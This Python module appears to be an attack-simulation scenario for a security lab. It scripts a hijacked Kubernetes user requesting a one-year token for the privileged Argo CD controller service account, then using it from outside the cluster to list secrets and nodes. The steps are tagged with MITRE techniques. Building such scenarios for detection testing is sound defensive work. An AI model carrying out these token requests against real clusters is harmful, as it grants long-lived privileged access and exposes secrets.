"""A token of a privileged account is asked for, for a year, and used from a hosted machine."""

from lab.cast import AGENTS
from lab.client import Identity
from lab.story import Scenario, Stage

_PATH = "/api/v1/namespaces/argocd/serviceaccounts/argocd-application-controller/token"


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 31_536_000}}
    with stage.step("ask for a token", thief, "credential-access", ("F13", "N02")):
        answer = stage.must(thief.post(_PATH, body)).json
    token = Identity("system:serviceaccount:argocd:argocd-application-controller", answer["status"]["token"])  # type: ignore[index]
    outside = stage.stranger(token, AGENTS["curl"])
    with stage.step("use it outside", outside, "persistence", ("A08", "N08", "N12", "F04", "F07", "F08")):
        stage.must(outside.get("/api/v1/secrets?limit=5"))
        outside.get("/api/v1/nodes")


SCENARIO = Scenario(
    "token-request",
    "A long token for a privileged account",
    "attack",
    "keep access for a year",
    ("T1528", "T1098"),
    _play,
)
